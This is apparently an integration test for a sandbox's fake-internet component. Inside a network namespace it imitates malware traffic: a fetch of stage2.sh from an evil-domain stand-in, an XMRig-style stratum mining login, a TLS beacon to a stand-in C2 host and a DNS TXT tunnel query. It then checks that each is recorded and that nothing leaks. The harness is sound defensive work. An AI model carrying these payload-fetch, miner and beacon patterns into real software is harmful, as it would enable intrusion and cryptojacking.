/**
 * The fake internet end to end, as root: a plain `unshare --net` process stands in for the
 * container (no runc needed). From inside it: DNS for made-up names, an HTTP download, a raw
 * TCP connect and a stratum login to a public-looking address, TLS with SNI, a UDP datagram, and
 * attempts to reach the host. Meanwhile tcpdump in the host namespace must see none of it.
 * Afterwards nothing may be left: no veth, no bridge, no namespace, no process.
 */
import assert from 'node:assert/strict';
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { existsSync, readdirSync, readlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { cleanupStaleFakenets, startFakeInternet, type FakeInternet } from '../src/sandbox/fakenet/index.js';
import { markedProcesses } from '../src/sandbox/fakenet/netns.js';
import { CHILD_MARKER } from '../src/sandbox/fakenet/protocol.js';
import type { NetworkEvent } from '../src/sandbox/types.js';
import { tempDir } from './support/tmp.js';

function missingTool(): string | null {
  for (const tool of ['unshare', 'nsenter', 'ip', 'iptables-restore', 'tcpdump', 'getent']) {
    try {
      execFileSync('sh', ['-c', `command -v ${tool}`], { stdio: 'ignore' });
    } catch {
      return tool;
    }
  }
  return null;
}

const isRoot = process.getuid?.() === 0;
const missing = isRoot ? missingTool() : null;
const skip = !isRoot
  ? 'needs root (network namespaces): run as root to test the fake internet'
  : missing
    ? `needs ${missing} (apt-get install tcpdump iptables iproute2)`
    : false;

const SUSPECT = /172\.17\.|198\.1[89]\.|203\.0\.113\.|evil-domain|example-mining/;

function sleep(ms: number): Promise<void> {
  return new Promise((r) => setTimeout(r, ms));
}

async function poll(what: string, ok: () => boolean, ms = 5000): Promise<void> {
  const end = Date.now() + ms;
  while (!ok()) {
    if (Date.now() > end) assert.fail(`timed out waiting for ${what}`);
    await sleep(50);
  }
}

function hostLinks(): string {
  return execFileSync('ip', ['-br', 'link'], { encoding: 'utf8' })
    .split('\n')
    .map((l) => l.split(/\s+/)[0])
    .sort()
    .join(' ');
}

function netnsHolders(ns: string): number[] {
  const pids: number[] = [];
  for (const e of readdirSync('/proc')) {
    if (!/^\d+$/.test(e)) continue;
    try {
      if (readlinkSync(`/proc/${e}/ns/net`) === ns) pids.push(Number(e));
    } catch {
      // gone, or not ours to read
    }
  }
  return pids;
}

/** The client side, run by node inside the stand-in container's network namespace. */
const CLIENT = `
import dgram from 'node:dgram';
import net from 'node:net';
import tls from 'node:tls';
const [responder, hostPort, hostPort2] = process.argv.slice(2);
const out = {};
function query(name, type) {
  const labels = name.split('.').flatMap((l) => [Buffer.from([l.length]), Buffer.from(l)]);
  const msg = Buffer.concat([Buffer.from([0xab, 0xcd, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...labels, Buffer.from([0, 0, type, 0, 1])]);
  return new Promise((resolve) => {
    const s = dgram.createSocket('udp4');
    const t = setTimeout(() => { s.close(); resolve(null); }, 3000);
    s.on('message', (m) => { clearTimeout(t); s.close(); resolve(m); });
    s.send(msg, 53, responder);
  });
}
function tcp(host, port, payload, wait = 1500) {
  return new Promise((resolve) => {
    let data = '';
    const s = net.connect(port, host);
    const done = (r) => { clearTimeout(t); s.destroy(); resolve(r); };
    const t = setTimeout(() => done({ data }), wait);
    s.on('connect', () => payload && s.write(payload));
    s.on('data', (d) => { data += d; });
    s.on('end', () => done({ data }));
    s.on('error', (e) => done({ error: e.code }));
  });
}
const a = await query('pool.example-mining.test', 1);
out.aAnswers = a.readUInt16BE(6);
out.aIp = [...a.subarray(-4)].join('.');
const aaaa = await query('pool.example-mining.test', 28);
out.aaaaAnswers = aaaa.readUInt16BE(6);
const payloadIp = [...(await query('payload.evil-domain.test', 1)).subarray(-4)].join('.');
out.http = await tcp(payloadIp, 80, 'GET /stage2.sh HTTP/1.1\\r\\nHost: payload.evil-domain.test\\r\\nUser-Agent: Wget/1.21.3\\r\\n\\r\\n');
out.raw = await tcp('203.0.113.7', 3333, 'HELLO-FROM-HARDCODED-IP\\n');
out.stratum = await tcp('203.0.113.8', 4444, JSON.stringify({ id: 1, jsonrpc: '2.0', method: 'login', params: { login: '4' + 'A'.repeat(94), pass: 'x', agent: 'XMRig/6.21.0' } }) + '\\n', 800);
const c2Ip = [...(await query('c2.evil-domain.test', 1)).subarray(-4)].join('.');
out.tls = await new Promise((resolve) => {
  let data = '';
  const t = tls.connect({ host: c2Ip, port: 443, servername: 'c2.evil-domain.test', rejectUnauthorized: false }, () => {
    t.write('GET /beacon HTTP/1.1\\r\\nHost: c2.evil-domain.test\\r\\n\\r\\n');
  });
  t.on('data', (d) => { data += d; });
  t.on('end', () => resolve({ data }));
  t.on('error', (e) => resolve({ error: e.code, data }));
  setTimeout(() => { t.destroy(); resolve({ data }); }, 3000);
});
await new Promise((resolve) => {
  const s = dgram.createSocket('udp4');
  s.send('hello-udp-datagram', 5555, '203.0.113.9', () => { s.close(); resolve(); });
});
out.tcpDns = await new Promise((resolve) => {
  const labels = 'tunnel.evil-domain.test'.split('.').flatMap((l) => [Buffer.from([l.length]), Buffer.from(l)]);
  const q = Buffer.concat([Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...labels, Buffer.from([0, 0, 16, 0, 1])]);
  const s = net.connect(53, '8.8.8.8', () => s.write(Buffer.concat([Buffer.from([0, q.length]), q])));
  let got = Buffer.alloc(0);
  s.on('data', (d) => { got = Buffer.concat([got, d]); if (got.length >= 2 && got.length >= 2 + got.readUInt16BE(0)) { s.destroy(); resolve({ id: got.readUInt16BE(2) }); } });
  s.on('error', (e) => resolve({ error: e.code }));
  setTimeout(() => { s.destroy(); resolve({ error: 'timeout' }); }, 3000);
});
out.hostLoopback = await tcp('127.0.0.1', Number(hostPort), 'should-never-arrive\\n');
out.hostEth0 = await tcp('192.0.2.2', Number(hostPort2), 'should-never-arrive-either\\n', 500);
console.log(JSON.stringify(out));
`;

let fake: FakeInternet | null = null;
let holder: ChildProcess | null = null;
let tcpdump: ChildProcess | null = null;
const hostServers: Server[] = [];
let hostHits = 0;

after(async () => {
  await fake?.stop();
  holder?.kill('SIGKILL');
  tcpdump?.kill('SIGKILL');
  for (const s of hostServers) s.close();
});

async function hostServer(host: string): Promise<number> {
  const s = createServer((sock) => {
    hostHits++;
    sock.destroy();
  });
  hostServers.push(s);
  await new Promise<void>((r) => s.listen(0, host, r));
  const addr = s.address();
  return typeof addr === 'object' && addr ? addr.port : 0;
}

function startHolder(): Promise<ChildProcess> {
  const p = spawn('unshare', ['--net', 'sleep', '120'], { stdio: 'ignore' });
  return poll('the stand-in container', () => {
    try {
      return (
        p.pid !== undefined && readlinkSync(`/proc/${p.pid}/ns/net`) !== readlinkSync('/proc/self/ns/net')
      );
    } catch {
      return false;
    }
  }).then(() => p);
}

function inContainer(pid: number, args: string[], timeout = 20_000): string {
  return execFileSync('nsenter', [`--net=/proc/${pid}/ns/net`, ...args], { encoding: 'utf8', timeout });
}

function byKind(events: NetworkEvent[], kind: NetworkEvent['kind']): NetworkEvent[] {
  return events.filter((e) => e.kind === kind);
}

before(() => {
  if (!skip) cleanupStaleFakenets();
});

test(
  'fake internet: answers and records everything, leaks nothing, leaves nothing',
  { skip, timeout: 120_000 },
  async (t) => {
    const dir = tempDir('shipshape-fakenet-');
    const linksBefore = hostLinks();
    const pcap = join(dir, 'host.pcap');
    tcpdump = spawn('tcpdump', ['-i', 'any', '-n', '-U', '--immediate-mode', '-w', pcap, 'not port 22'], {
      stdio: ['ignore', 'ignore', 'pipe'],
    });
    let tcpdumpErr = '';
    tcpdump.stderr?.on('data', (d: Buffer) => (tcpdumpErr += d.toString()));
    await poll('tcpdump to listen', () => tcpdumpErr.includes('listening on'));

    const t0 = performance.now();
    fake = await startFakeInternet({ workDir: dir });
    const t1 = performance.now();
    holder = await startHolder();
    const hpid = holder.pid as number;
    const t2 = performance.now();
    await fake.attach(hpid);
    const t3 = performance.now();
    t.diagnostic(`start ${(t1 - t0).toFixed(0)} ms, attach ${(t3 - t2).toFixed(0)} ms`);

    assert.equal(fake.responderIp, '172.17.0.1', 'responder address');
    assert.match(
      execFileSync('cat', [fake.resolvConfPath], { encoding: 'utf8' }),
      /^nameserver 172\.17\.0\.1$/m,
      'resolv.conf',
    );
    assert.match(
      execFileSync('cat', [fake.hostsPath], { encoding: 'utf8' }),
      /127\.0\.0\.1\s+localhost/,
      'hosts',
    );
    assert.equal(hostLinks(), linksBefore, 'nothing new in the host namespace');
    assert.match(
      inContainer(hpid, ['ip', '-br', 'addr']),
      /eth0\S*\s+UP\s+172\.17\.0\.2\/16/,
      'container eth0',
    );

    await assert.rejects(
      fake.attach(process.pid),
      /not in a network namespace of its own/,
      'refuses the host namespace',
    );
    await assert.rejects(fake.attach(hpid), /already attached/, 'refuses a second attach of one namespace');

    const hostPort = await hostServer('127.0.0.1');
    const hostPort2 = await hostServer('0.0.0.0');
    const client = join(dir, 'client.mjs');
    writeFileSync(client, CLIENT);
    const out = JSON.parse(
      inContainer(hpid, [process.execPath, client, fake.responderIp, String(hostPort), String(hostPort2)]),
    ) as Record<string, { data?: string; error?: string } & Record<string, unknown>>;

    // getent through glibc, with our resolv.conf mounted over the real one in a private mount ns.
    const getent = inContainer(hpid, [
      'unshare',
      '--mount',
      'sh',
      '-c',
      `mount --bind ${fake.resolvConfPath} /etc/resolv.conf && getent hosts some-made-up.evil-domain.test`,
    ]);
    assert.match(
      getent,
      /^198\.1[89]\.\d+\.\d+\s+some-made-up\.evil-domain\.test/m,
      'getent resolves any name',
    );

    assert.equal(out.aAnswers, 1, 'A answered');
    assert.match(String(out.aIp), /^198\.18\./, 'A answer from the fake pool');
    assert.equal(out.aaaaAnswers, 0, 'AAAA NODATA');
    assert.match(
      out.http?.data ?? '',
      /^HTTP\/1\.1 200 OK[\s\S]*#!\/bin\/sh\necho shipshape-fake-payload\n$/,
      'fake script',
    );
    assert.match(out.stratum?.data ?? '', /"job_id":"1"/, 'stratum job');
    assert.match(out.tls?.data ?? '', /shipshape-fake-payload/, 'HTTPS answered after the TLS handshake');
    assert.equal(out.tcpDns?.id, 0x1234, 'DNS over TCP to a hard-coded resolver answered');
    assert.equal(out.hostLoopback?.error, 'ECONNREFUSED', 'host loopback unreachable');
    assert.equal(out.hostEth0?.error, undefined, 'the host address is caught by the fake internet');
    assert.equal(hostHits, 0, 'no host service saw a connection');

    const responder = markedProcesses(CHILD_MARKER).find((p) => p.ownerPid === process.pid);
    assert.ok(responder, 'responder process found');
    const responderNetns = readlinkSync(`/proc/${responder.pid}/ns/net`);
    const t4 = performance.now();
    await fake.stop();
    const t5 = performance.now();
    t.diagnostic(`stop ${(t5 - t4).toFixed(0)} ms`);
    const events = fake.events();
    const find = (kind: NetworkEvent['kind'], pred: (e: NetworkEvent) => boolean) =>
      byKind(events, kind).find(pred);

    assert.ok(
      find('dns', (e) => e.host === 'pool.example-mining.test' && e.detail === 'A'),
      'DNS A recorded',
    );
    assert.ok(
      find('dns', (e) => e.host === 'pool.example-mining.test' && e.detail === 'AAAA'),
      'DNS AAAA recorded',
    );
    assert.ok(
      find('dns', (e) => e.host === 'some-made-up.evil-domain.test'),
      'getent query recorded',
    );
    const tunnel = find('dns', (e) => e.host === 'tunnel.evil-domain.test');
    assert.equal(tunnel?.detail, 'TXT', 'TXT over TCP recorded');
    assert.equal(tunnel?.ip, '8.8.8.8', 'the resolver the sample really asked');
    const http = find('http', (e) => e.port === 80);
    assert.equal(http?.host, 'payload.evil-domain.test', 'HTTP Host');
    assert.equal(http?.detail, 'GET /stage2.sh ua=Wget/1.21.3', 'HTTP method, path, user agent');
    assert.match(http?.ip ?? '', /^198\.18\./, 'HTTP destination');
    const raw = find('tcp', (e) => e.ip === '203.0.113.7');
    assert.equal(raw?.port, 3333, 'raw TCP destination port');
    assert.equal(raw?.firstBytes, 'HELLO-FROM-HARDCODED-IP\\n', 'raw TCP first bytes');
    const stratum = find('tcp', (e) => e.ip === '203.0.113.8');
    assert.equal(stratum?.port, 4444, 'stratum port');
    assert.equal(stratum?.detail, 'stratum login', 'stratum detail');
    assert.ok(stratum?.firstBytes.includes('"method":"login"'), 'stratum first bytes');
    const tls = find('tls', () => true);
    assert.equal(tls?.host, 'c2.evil-domain.test', 'SNI');
    assert.equal(tls?.port, 443, 'TLS port');
    const https = find('http', (e) => e.port === 443);
    assert.equal(https?.detail, 'GET /beacon', 'HTTPS request recorded');
    const udp = find('udp', () => true);
    assert.equal(udp?.ip, '203.0.113.9', 'UDP destination');
    assert.equal(udp?.port, 5555, 'UDP port');
    assert.equal(udp?.firstBytes, 'hello-udp-datagram', 'UDP bytes');
    assert.ok(
      find('tcp', (e) => e.ip === '192.0.2.2' && e.port === hostPort2),
      'connect to the host address recorded',
    );
    assert.ok(!events.some((e) => e.ip === '127.0.0.1'), 'loopback never reached the responder');
    assert.ok(
      events.every((e) => e.firstBytes.length <= 512),
      'first bytes bounded',
    );

    // Nothing left behind.
    await stopAndCheckGone(hpid, linksBefore);
    await poll('the responder namespace to be unused', () => netnsHolders(responderNetns).length === 0);
    await fake.stop(); // idempotent

    // Leak check: the host namespace saw no packet of the sandbox (positive control first).
    execFileSync(process.execPath, [
      '-e',
      "const s = require('dgram').createSocket('udp4'); s.send('control 203.0.113.250', 5555, '127.0.0.1', () => s.close());",
    ]);
    await sleep(300);
    tcpdump.kill('SIGINT');
    await new Promise((r) => tcpdump?.once('exit', r));
    const dump = execFileSync('tcpdump', ['-r', pcap, '-n', '-A'], {
      encoding: 'latin1',
      stdio: ['ignore', 'pipe', 'ignore'],
    });
    assert.ok(dump.includes('control 203.0.113.250'), 'tcpdump saw the control packet');
    const leaks = dump.split('\n').filter((l) => SUSPECT.test(l) && !l.includes('control 203.0.113.250'));
    assert.deepEqual(leaks, [], 'no sandbox packet in the host namespace');
  },
);

async function stopAndCheckGone(hpid: number, linksBefore: string): Promise<void> {
  await poll(
    'the container veth to go',
    () => inContainer(hpid, ['ip', '-br', 'link']).trim().split('\n').length === 1,
  );
  assert.equal(hostLinks(), linksBefore, 'host links unchanged');
  assert.equal(
    markedProcesses(CHILD_MARKER).filter((p) => p.ownerPid === process.pid).length,
    0,
    'no responder process',
  );
}

test(
  'fake internet: a killed owner takes its responder and namespace along',
  { skip, timeout: 60_000 },
  async () => {
    const dir = tempDir('shipshape-fakenet-crash-');
    const script = join(dir, 'owner.mts');
    writeFileSync(
      script,
      `import { startFakeInternet } from ${JSON.stringify(fileURLToPath(new URL('../src/sandbox/fakenet/index.ts', import.meta.url)))};\n` +
        `await startFakeInternet({ workDir: ${JSON.stringify(dir)} });\nconsole.log('up');\nsetInterval(() => {}, 1000);\n`,
    );
    const owner = spawn(process.execPath, ['--import', 'tsx', script], {
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    let out = '';
    owner.stdout?.on('data', (d: Buffer) => (out += d.toString()));
    await poll('the owner to start its fake internet', () => out.includes('up'), 30_000);
    const responders = markedProcesses(CHILD_MARKER).filter((p) => p.ownerPid === owner.pid);
    assert.equal(responders.length, 1, 'one responder');
    const rpid = (responders[0] as { pid: number }).pid;
    const ns = readlinkSync(`/proc/${rpid}/ns/net`);
    owner.kill('SIGKILL');
    await poll('the orphaned responder to exit', () => !existsSync(`/proc/${rpid}`), 5000);
    await poll('its namespace to be unused', () => netnsHolders(ns).length === 0, 5000);
    assert.deepEqual(cleanupStaleFakenets().killed, [], 'nothing stale left to kill');
  },
);
